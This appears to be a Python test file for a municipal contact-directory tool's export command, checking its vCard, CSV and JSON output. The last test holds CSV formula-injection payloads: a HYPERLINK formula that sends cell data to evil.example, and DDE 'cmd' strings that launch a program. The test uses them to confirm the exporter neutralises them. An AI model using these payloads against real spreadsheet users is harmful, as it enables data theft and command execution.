"""`kontakt export`: vCard, CSV and JSON that common readers parse, public entries by default."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import vobject

from kontakt import Directory
from kontakt._cli import main
from kontakt._export import to_csv, to_json
from support.helpers import data_file
from support.paths import FIXTURES, SOLSJO_FILE

CASES = FIXTURES / "export"
MIXED = CASES / "public-and-hidden.yaml"
AWKWARD = CASES / "awkward-text.yaml"


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert main(["export", *args]) == 0
    captured = capsys.readouterr()
    assert captured.err == ""
    return captured.out


def _cards(text: str) -> dict[str, Any]:
    """The parsed vCards by their FN."""
    return {card.fn.value: card for card in vobject.readComponents(text)}


def _telephones(card: Any) -> list[tuple[str, list[str], str | None]]:
    """(number, types, label grouped with it) for each TEL of a card."""
    labels = {line.group: line.value for line in card.contents.get("x-ablabel", [])}
    return [
        (tel.value, tel.params.get("TYPE", []), labels.get(tel.group) if tel.group else None)
        for tel in card.contents["tel"]
    ]


def test_vcard_3_person_with_an_sms_only_number(capsys: pytest.CaptureFixture[str]) -> None:
    cards = _cards(_run(capsys, "--format", "vcf", "--data", str(MIXED)))
    assert sorted(cards) == ["Anna Ek", "VA-jour"]
    anna = cards["Anna Ek"]
    assert anna.version.value == "3.0"
    assert (anna.n.value.family, anna.n.value.given) == ("Ek", "Anna")
    assert anna.org.value == ["Lessebo kommun", "Kommunledningsförvaltningen"]
    assert anna.title.value == "Kommunikatör"
    assert anna.email.value == "anna.ek@lessebo.se"
    assert _telephones(anna) == [
        ("+4647812511", ["WORK", "VOICE"], None),
        ("+46709486488", ["CELL"], "endast SMS"),
    ]
    assert anna.categories.value == ["press", "kommunikation"]
    assert anna.uid.value.startswith("urn:uuid:")


def test_vcard_3_service_is_an_organisation_card(capsys: pytest.CaptureFixture[str]) -> None:
    service = _cards(_run(capsys, "--format", "vcf", "--data", str(MIXED)))["VA-jour"]
    assert service.x_abshowas.value == "COMPANY"
    assert service.org.value == ["VA-jour", "Samhällsbyggnadsförvaltningen"]
    assert _telephones(service) == [("+4647812590", ["WORK", "VOICE"], None)]
    assert service.adr.value.street == "Storgatan 33, 365 31 Lessebo"


def test_vcard_4_marks_sms_only_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    text = _run(capsys, "--format", "vcf", "--vcard-version", "4", "--data", str(MIXED))
    cards = _cards(text)
    anna, service = cards["Anna Ek"], cards["VA-jour"]
    assert anna.version.value == "4.0"
    assert _telephones(anna) == [
        ("tel:+4647812511", ["work", "voice"], None),
        ("tel:+46709486488", ["text"], "endast SMS"),
    ]
    assert service.kind.value == "org"
    assert "x-abshowas" not in service.contents


def test_vcard_text_is_escaped_and_lines_are_folded(capsys: pytest.CaptureFixture[str]) -> None:
    text = _run(capsys, "--format", "vcf", "--data", str(AWKWARD))
    assert text.endswith("END:VCARD\r\n")
    lines = text.split("\r\n")
    assert max(len(line.encode("utf-8")) for line in lines) <= 75
    assert "\n" not in text.replace("\r\n", "")
    card = _cards(text)["Åke Öberg-Ärlig"]
    assert card.title.value == "Chef; bygg, miljö och hälsa \\ tillsyn"
    assert card.org.value == [
        "Lessebo kommun",
        "Samhällsbyggnadsförvaltningen, avdelningen för miljö- och hälsoskydd och tillsyn över livsmedel",
    ]
    assert card.categories.value == [
        "bygglov",
        "el, vatten; avlopp",
        "miljöförvaltningens allra längsta ämnesord som aldrig tar slut",
    ]


def test_vcard_of_the_example_data_has_a_card_per_entry(
    capsys: pytest.CaptureFixture[str],
) -> None:
    cards = list(
        vobject.readComponents(_run(capsys, "--format", "vcf", "--data", str(SOLSJO_FILE)))
    )
    assert len(cards) == 36
    assert len({card.uid.value for card in cards}) == 36
    mikael = next(c for c in cards if c.fn.value == "Mikael Ståhl")
    assert _telephones(mikael)[1] == ("+46701740611", ["CELL"], "endast SMS")


def test_csv_has_a_header_and_a_row_per_public_entry(capsys: pytest.CaptureFixture[str]) -> None:
    text = _run(capsys, "--format", "csv", "--data", str(MIXED))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows == [
        {
            "kind": "person",
            "id": "anna-ek",
            "name": "Anna Ek",
            "first_name": "Anna",
            "last_name": "Ek",
            "title": "Kommunikatör",
            "department": "Kommunledningsförvaltningen",
            "email": "anna.ek@lessebo.se",
            "phones": "+4647812511",
            "sms_only_phones": "+46709486488",
            "topics": "press; kommunikation",
            "address": "",
            "hours": "",
            "url": "",
            "on_call": "false",
            "public": "true",
        },
        {
            "kind": "service",
            "id": "va-jour",
            "name": "VA-jour",
            "first_name": "",
            "last_name": "",
            "title": "",
            "department": "Samhällsbyggnadsförvaltningen",
            "email": "",
            "phones": "+4647812590",
            "sms_only_phones": "",
            "topics": "vattenläcka",
            "address": "Storgatan 33, 365 31 Lessebo",
            "hours": "24/7",
            "url": "https://vatten.example/jour",
            "on_call": "true",
            "public": "true",
        },
    ]


def test_csv_keeps_commas_and_semicolons_inside_fields(
    capsys: pytest.CaptureFixture[str],
) -> None:
    text = _run(capsys, "--format", "csv", "--data", str(AWKWARD))
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["title"] == "Chef; bygg, miljö och hälsa \\ tillsyn"
    assert row["department"].startswith("Samhällsbyggnadsförvaltningen, avdelningen")
    assert row["topics"] == (
        "bygglov; el, vatten; avlopp; miljöförvaltningens allra längsta ämnesord som aldrig tar slut"
    )


def test_json_lists_entries_with_normalised_fields(capsys: pytest.CaptureFixture[str]) -> None:
    entries = json.loads(_run(capsys, "--format", "json", "--data", str(MIXED)))
    assert [e["id"] for e in entries] == ["anna-ek", "va-jour"]
    assert entries[0]["phones"] == [
        {
            "e164": "+4647812511",
            "display": "0478-125 11",
            "international": "+46 478 125 11",
            "mobile": False,
            "sms_only": False,
            "label": None,
            "public": True,
        },
        {
            "e164": "+46709486488",
            "display": "070-948 64 88",
            "international": "+46 70 948 64 88",
            "mobile": True,
            "sms_only": True,
            "label": None,
            "public": True,
        },
    ]
    assert entries[1] == {
        "kind": "service",
        "id": "va-jour",
        "name": "VA-jour",
        "first_name": None,
        "last_name": None,
        "title": None,
        "department": "Samhällsbyggnadsförvaltningen",
        "email": None,
        "phones": [
            {
                "e164": "+4647812590",
                "display": "0478-125 90",
                "international": "+46 478 125 90",
                "mobile": False,
                "sms_only": False,
                "label": None,
                "public": True,
            }
        ],
        "topics": ["vattenläcka"],
        "address": "Storgatan 33, 365 31 Lessebo",
        "hours": "24/7",
        "url": "https://vatten.example/jour",
        "on_call": True,
        "public": True,
    }


@pytest.mark.parametrize("format", ["vcf", "csv", "json"])
def test_all_includes_hidden_entries_and_numbers(
    format: str, capsys: pytest.CaptureFixture[str]
) -> None:
    public = _run(capsys, "--format", format, "--data", str(MIXED))
    everything = _run(capsys, "--format", format, "--data", str(MIXED), "--all")
    for hidden in ("bo.ek@lessebo.se", "+46701112233"):
        assert hidden not in public
        assert hidden in everything


def test_output_file_is_written_whole_and_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stdout_version = _run(capsys, "--format", "vcf", "--data", str(MIXED))
    out = tmp_path / "kontakter.vcf"
    out.write_text("old content\n", encoding="utf-8")
    assert main(["export", "--format", "vcf", "--data", str(MIXED), "-o", str(out)]) == 0
    assert out.read_bytes() == stdout_version.encode("utf-8")
    # A status, not data: stdout stays empty.
    assert capsys.readouterr() == (
        "",
        f"{out}: 2 entries from {MIXED} (1 not public left out; --all includes them)\n",
    )
    assert sorted(tmp_path.iterdir()) == [out]


def test_data_with_errors_is_not_exported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    broken = FIXTURES / "invalid" / "wrong-address.yaml"
    out = tmp_path / "out.json"
    assert main(["export", "--format", "json", "--data", str(broken), "-o", str(out)]) == 1
    assert capsys.readouterr().err.splitlines()[-1] == f"{broken}: 1 error, 0 warnings"
    assert not out.exists()


def test_vcard_version_needs_vcf(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "csv", "--vcard-version", "4"]) == 2
    assert capsys.readouterr().err == (
        "kontakt: error: --vcard-version applies to --format vcf only\n"
    )


def test_csv_cells_a_spreadsheet_would_run_are_made_text() -> None:
    # Fictional; numbers from PTS's series for fiction.
    directory = Directory.from_text(
        data_file("""\
        people:
          - first_name: Eva
            last_name: Ek
            title: '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
            department: "-2+3"
            email: "=cmd|'/Ccalc'!A0@example.com"
            phones: [0980-31 92 10]
            topics: ["@SUM(1+1)*cmd|' /C calc'!A0", vanlig]
        """)
    )
    (row,) = csv.DictReader(io.StringIO(to_csv(directory), newline=""))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    assert row["department"] == "'-2+3"
    assert row["email"] == "'=cmd|'/ccalc'!a0@example.com"
    assert row["topics"] == "'@SUM(1+1)*cmd|' /C calc'!A0; vanlig"
    # An E.164 number is checked by the loader and stays as it is.
    assert row["phones"] == "+46980319210"
    # JSON is no spreadsheet: values as they are.
    assert json.loads(to_json(directory))[0]["title"].startswith("=HYPERLINK")
